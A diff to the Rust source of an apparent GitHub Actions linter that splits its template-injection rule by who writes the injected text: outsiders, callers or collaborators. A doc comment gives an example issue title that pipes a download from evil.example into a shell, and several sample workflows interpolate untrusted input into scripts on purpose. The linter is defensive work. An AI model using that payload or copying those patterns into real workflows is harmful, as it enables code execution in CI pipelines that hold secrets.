@@ -1,9 +1,10 @@
-//! Attacker's text where code is expected: in scripts, and in the files that set variables for later steps.
+//! Other people's text where code is expected: in scripts, and in the files that set variables for later steps.
 //!
-//! Decided by the contexts that flow into the text and by who writes them. It cannot know what a step's output or a
-//! variable holds that an earlier step sets while it runs; those give no finding, but for outputs of tabled actions.
+//! Decided by the contexts that flow into the text and by who writes them under the events of `on:`. It cannot know what a
+//! step's output or a variable holds that an earlier step sets while it runs; those give no finding, but for outputs of
+//! tabled actions.
 
-use portcullis_model::actions::{InputKind, Shell, Step, Taint, Usage, Workflow, taint};
+use portcullis_model::actions::{Input, InputKind, Shell, Step, Taint, Usage, taint};
 use portcullis_syntax::expression::{Path, fences};
 use portcullis_syntax::shell::{Command, RedirectKind};
 
@@ -11,7 +12,8 @@ use super::{ActionsCheck, Scope, fixes};
 use crate::rule::prelude::*;
 
 /// The rules of this file.
-pub(super) static RULES: &[&Rule] = &[&TEMPLATE_INJECTION, &GITHUB_ENV_INJECTION];
+pub(super) static RULES: &[&Rule] =
+    &[&TEMPLATE_INJECTION, &TEMPLATE_INJECTION_BY_CALLER, &TEMPLATE_INJECTION_BY_COLLABORATOR, &GITHUB_ENV_INJECTION];
 
 /// Inputs of actions that are run as code.
 const SINKS: &[(&str, &[&str])] = &[
@@ -50,8 +52,10 @@ rule! {
     ///
     /// `${{ }}` is replaced before the shell, or the action that runs its input as code, sees the script: a title such as
     /// `"; curl evil.example | sh; "` is then part of it. Looks at `run:` and at inputs that actions run, at contexts that
-    /// outsiders fill in, at inputs that hold any text, and follows `env` and `matrix` to what the file gives them. Silent on
-    /// numbers, hashes, results of steps, comparisons, literals, and values that cannot be known.
+    /// anybody on GitHub may fill in (titles, bodies, names of forks' branches, messages of commits), and follows `env` and
+    /// `matrix` to what the file gives them. Silent on numbers, hashes, results of steps, comparisons, literals, values that
+    /// cannot be known, and what no event of `on:` carries. What callers or members of the repository choose is told apart:
+    /// see `actions-template-injection-by-caller` and `actions-template-injection-by-collaborator`.
     ///
     /// ```workflow bad:8
     /// on: issues
@@ -74,17 +78,6 @@ rule! {
     ///       - uses: actions/github-script@v7
     ///         with: { script: "console.log('${{ env.BRANCH }}')" }
     /// ```
-    /// ```action bad:9
-    /// name: greet
-    /// description: greets
-    /// inputs:
-    ///   who: { description: whom }
-    /// runs:
-    ///   using: composite
-    ///   steps:
-    ///     - shell: bash
-    ///       run: echo "${{ inputs.who }}"
-    /// ```
     /// ```workflow good
     /// on: [pull_request, push]
     /// env: { REGION: us-west-2 }
@@ -99,8 +92,17 @@ rule! {
     ///       - run: echo ${{ github.sha }} ${{ env.REGION }} ${{ matrix.version }} ${{ steps.build.outcome }}
     ///       - run: echo ${{ github.event.pull_request.title == 'x' && 'a' || 'b' }} ${{ github.event.number }}
     /// ```
+    /// ```workflow good
+    /// # Members start it, and it carries no issue.
+    /// on: { workflow_dispatch: { inputs: { tag: {} } }, push: {} }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo ${{ inputs.tag }} ${{ github.ref_name }} ${{ github.event.issue.title }}
+    /// ```
     TEMPLATE_INJECTION = "actions-template-injection" {
-        check: Check::Actions(ActionsCheck::Expression(template_injection)),
+        check: Check::Actions(ActionsCheck::Expression(by_outsider)),
         severity: Severity::High,
         tags: &["cwe-94"],
         peers: &[
@@ -114,15 +116,131 @@ rule! {
     }
 }
 
-fn template_injection(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+rule! {
+    /// Input that a caller fills in becomes code
+    ///
+    /// An action or a reusable workflow gets whatever its caller has: often a branch's name or a title that somebody outside
+    /// has chosen, and callers do not expect that an input is run. Looks at `run:` and at inputs that actions run, in actions
+    /// and in workflows with `workflow_call`. Silent on booleans and numbers, and on inputs that are handed over in `env`.
+    ///
+    /// ```action bad:9
+    /// name: greet
+    /// description: greets
+    /// inputs:
+    ///   who: { description: whom }
+    /// runs:
+    ///   using: composite
+    ///   steps:
+    ///     - shell: bash
+    ///       run: echo "${{ inputs.who }}"
+    /// ```
+    /// ```workflow bad:7
+    /// on: { workflow_call: { inputs: { who: { type: string } } } }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: |
+    ///           echo "${{ inputs.who }}"
+    /// ```
+    /// ```workflow good
+    /// on: { workflow_call: { inputs: { who: { type: string }, count: { type: number } } } }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "$WHO" ${{ inputs.count }}
+    ///         env: { WHO: "${{ inputs.who }}" }
+    /// ```
+    TEMPLATE_INJECTION_BY_CALLER = "actions-template-injection-by-caller" {
+        check: Check::Actions(ActionsCheck::Expression(by_caller)),
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        tags: &["cwe-94"],
+        peers: &["zizmor:template-injection", "poutine:injection"],
+    }
+}
+
+rule! {
+    /// Text that a collaborator chooses becomes code
+    ///
+    /// Only those who may write to the repository name its branches and tags, start a workflow by hand or publish a release.
+    /// They could change the workflow as well, but not always unseen: such a text runs with the secrets of an environment,
+    /// without a review. A blank or a quote in it breaks the script, too. Looks at inputs of `workflow_dispatch`, `github.ref`
+    /// and `github.base_ref`, labels, releases, deployments and the payload of `repository_dispatch`. Silent on inputs of a
+    /// fixed list, and on branches and tags that the filters of `on:` name.
+    ///
+    /// ```workflow bad:6
+    /// on: { workflow_dispatch: { inputs: { tag: { description: what to release } } } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ inputs.tag }}"
+    /// ```
+    /// ```workflow bad:6
+    /// on: { push: { tags: ["v*"] } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ github.ref_name }}"
+    /// ```
+    /// ```workflow good
+    /// on:
+    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
+    ///   pull_request: { branches: [main] }
+    ///   workflow_call: { inputs: { sure: { type: boolean } } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "$GITHUB_REF_NAME" ${{ inputs.sure }}
+    /// ```
+    /// ```workflow good
+    /// on:
+    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
+    ///   pull_request: { branches: [main] }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ github.ref_name }}" "${{ github.base_ref }}"
+    /// ```
+    TEMPLATE_INJECTION_BY_COLLABORATOR = "actions-template-injection-by-collaborator" {
+        check: Check::Actions(ActionsCheck::Expression(by_collaborator)),
+        severity: Severity::Low,
+        tags: &["cwe-94"],
+        peers: &["zizmor:template-injection"],
+    }
+}
+
+fn by_outsider(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+    report_injections(usage, scope, Writer::Outsider, report);
+}
+
+fn by_caller(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+    report_injections(usage, scope, Writer::Caller, report);
+}
+
+fn by_collaborator(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+    report_injections(usage, scope, Writer::Collaborator, report);
+}
+
+fn report_injections(usage: &Usage<'_>, scope: Scope<'_, '_>, writer: Writer, report: &mut Report<'_>) {
     let Some(step) = usage.step.and_then(|index| scope.steps().get(index)) else { return };
     let Some(sink) = sink(step, usage.node) else { return };
     let Some(expr) = usage.expr() else { return };
     for (source, path) in expr.sources() {
-        let Some(found) = trace(&path, step, scope, 0) else { continue };
+        let Some(found) = trace(&path, step, scope, 0).filter(|found| found.writer == writer) else { continue };
         let written = usage.text_of(source);
         let through = if found.path == path.to_string() { String::new() } else { format!(" (`{}`)", found.path) };
-        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}"));
+        let who = match writer {
+            Writer::Outsider => "",
+            Writer::Caller => ", whatever the caller hands over",
+            Writer::Collaborator => ", whatever a collaborator chooses",
+        };
+        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}{who}"));
         draft.confidence(found.confidence).help(match step.run {
             Some(_) => "hand it to the step in `env:` and read it as a quoted variable",
             None => "hand it to the step in `env:` and read it from the environment",
@@ -144,10 +262,19 @@ fn sink(step: &Step<'_>, node: Node<'_>) -> Option<&'static str> {
     inputs.iter().any(|input| step.input(input) == Some(node)).then_some("code that the action runs")
 }
 
-/// A context that an attacker writes, and how sure that is.
+/// A context that somebody else writes, and how sure that is.
 struct Found {
     path: String,
+    writer: Writer,
     confidence: Confidence,
+}
+
+/// Who writes what becomes code.
+#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Writer {
+    Collaborator,
+    Caller,
+    Outsider,
 }
 
 /// Variables and steps that are looked through for a name.
@@ -157,19 +284,19 @@ const MAX_VARIABLES: usize = 500;
 const MAX_HOPS: u8 = 4;
 
 fn trace(path: &Path, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
-    let found = |confidence| Some(Found { path: path.to_string(), confidence });
-    match taint(path) {
+    let found = |writer, confidence| Some(Found { path: path.to_string(), writer, confidence });
+    match scope.workflow().map_or_else(|| taint(path), |workflow| workflow.taint(path)) {
         Taint::Fixed => None,
-        Taint::Arbitrary if path.is("github.ref") || path.is("github.ref_name") => {
-            let is_open = scope.workflow().is_none_or(has_open_ref);
-            if is_open { found(Confidence::Medium) } else { None }
+        Taint::Collaborator => found(Writer::Collaborator, Confidence::Medium),
+        // Who pushes may have merged what somebody else wrote.
+        Taint::Outsider if matches!(path.name(2), "commits" | "head_commit") => {
+            found(Writer::Outsider, Confidence::Medium)
         }
-        Taint::Arbitrary => found(Confidence::High),
-        Taint::Structured => found(Confidence::Medium),
+        Taint::Outsider => found(Writer::Outsider, Confidence::High),
         Taint::Unknown if hops >= MAX_HOPS => None,
         Taint::Unknown => match path.root() {
-            "inputs" => input(path.name(1), scope).and_then(found),
-            "github" => input(path.name(3), scope).and_then(found),
+            "inputs" => input(path.name(1), scope).and_then(|writer| found(writer, Confidence::Medium)),
+            "github" => input(path.name(3), scope).and_then(|writer| found(writer, Confidence::Medium)),
             "env" => {
                 let holders =
                     [Some(step.node), scope.job().map(|job| job.node), scope.workflow().map(|file| file.root)];
@@ -179,7 +306,10 @@ fn trace(path: &Path, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option
                 });
                 value.and_then(|(_, value)| trace_text(value.text(), step, scope, hops))
             }
-            "matrix" => matrix_values(path, scope).into_iter().find_map(|text| trace_text(text, step, scope, hops)),
+            "matrix" => {
+                let values = matrix_values(path, scope).into_iter();
+                worst(values.filter_map(|text| trace_text(text, step, scope, hops)))
+            }
             "steps" => {
                 let earlier = scope.steps().iter().take(MAX_VARIABLES).find(|step| {
                     step.get("id").present().is_some_and(|id| id.text().eq_ignore_ascii_case(path.name(1)))
@@ -187,26 +317,46 @@ fn trace(path: &Path, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option
                 let uses = earlier?.uses?;
                 let (_, outputs) = TAINTED_OUTPUTS.iter().find(|(action, _)| uses.is(action))?;
                 let is_tainted = outputs.iter().any(|output| output.eq_ignore_ascii_case(path.name(3)));
-                if is_tainted { found(Confidence::Medium) } else { None }
+                let writer = if is_open_to_outsiders(scope) { Writer::Outsider } else { Writer::Collaborator };
+                if is_tainted { found(writer, Confidence::Medium) } else { None }
             }
             _ => None,
         },
     }
 }
 
-fn trace_text(text: &str, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
-    let hops = hops.saturating_add(1);
-    fences(text).filter_map(|fence| fence.expr.ok()).find_map(|expr| {
-        let sources = expr.sources();
-        sources.iter().find_map(|(_, path)| trace(path, step, scope, hops))
-    })
+/// Whether files and branches can be those of somebody outside: of a pull request, or of whatever the caller runs for.
+fn is_open_to_outsiders(scope: Scope<'_, '_>) -> bool {
+    let is_open = |name: &str| {
+        name.starts_with("pull_request") || matches!(name, "issue_comment" | "workflow_call" | "workflow_run")
+    };
+    scope.workflow().is_none_or(|workflow| workflow.triggers.iter().any(|trigger| is_open(trigger.name)))
 }
 
-/// How sure it is that an input carries code; whoever dispatches a workflow may write to the repository already.
-fn input(name: &str, scope: Scope<'_, '_>) -> Option<Confidence> {
-    let inputs = scope.inputs();
-    let declared = inputs.iter().find(|input| input.name.eq_ignore_ascii_case(name))?;
-    (declared.kind == InputKind::Text).then_some(Confidence::Medium)
+fn worst(found: impl Iterator<Item = Found>) -> Option<Found> {
+    found.reduce(|worst, other| if other.writer > worst.writer { other } else { worst })
+}
+
+fn trace_text(text: &str, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
+    let hops = hops.saturating_add(1);
+    let sources = fences(text).filter_map(|fence| fence.expr.ok()).map(|expr| {
+        let sources = expr.sources();
+        worst(sources.iter().filter_map(|(_, path)| trace(path, step, scope, hops)))
+    });
+    worst(sources.flatten())
+}
+
+/// Who fills in an input that can hold any text.
+fn input(name: &str, scope: Scope<'_, '_>) -> Option<Writer> {
+    let is_text = |inputs: Vec<Input<'_>>| {
+        let mut named = inputs.into_iter().filter(|input| input.name.eq_ignore_ascii_case(name));
+        named.any(|input| input.kind == InputKind::Text)
+    };
+    let Some(workflow) = scope.workflow() else { return is_text(scope.inputs()).then_some(Writer::Caller) };
+    if is_text(workflow.inputs_of("workflow_call")) {
+        return Some(Writer::Caller);
+    }
+    is_text(workflow.inputs_of("workflow_dispatch")).then_some(Writer::Collaborator)
 }
 
 /// The texts that the file gives to a matrix key.
@@ -232,28 +382,6 @@ fn scalars<'t>(node: Node<'t>, depth: u8, texts: &mut Vec<&'t str>) {
     } else {
         texts.push(node.text());
     }
-}
-
-/// Whether `github.ref` can be a name that somebody makes up. A pull request's is its number, a schedule's the default
-/// branch, and a push to branches that are listed one of those.
-fn has_open_ref(workflow: &Workflow<'_>) -> bool {
-    workflow.triggers.is_empty()
-        || workflow.triggers.iter().any(|trigger| match trigger.name {
-            "push" => {
-                let get = |key: &str| trigger.config.and_then(|config| config.get(key).present());
-                let is_literal = |node: Node<'_>| {
-                    portcullis_model::actions::one_or_many(node)
-                        .iter()
-                        .all(|pattern| !pattern.text().contains(['*', '?', '[', '!', '$', '+']))
-                };
-                let filters = [get("branches"), get("tags")];
-                let filtered = filters.iter().flatten().count() > 0;
-                !filtered || filters.into_iter().flatten().any(|node| !is_literal(node))
-            }
-            "create" | "delete" | "workflow_dispatch" | "workflow_call" | "release" | "registry_package"
-            | "deployment" | "deployment_status" | "merge_group" => true,
-            _ => false,
-        })
 }
 
 rule! {
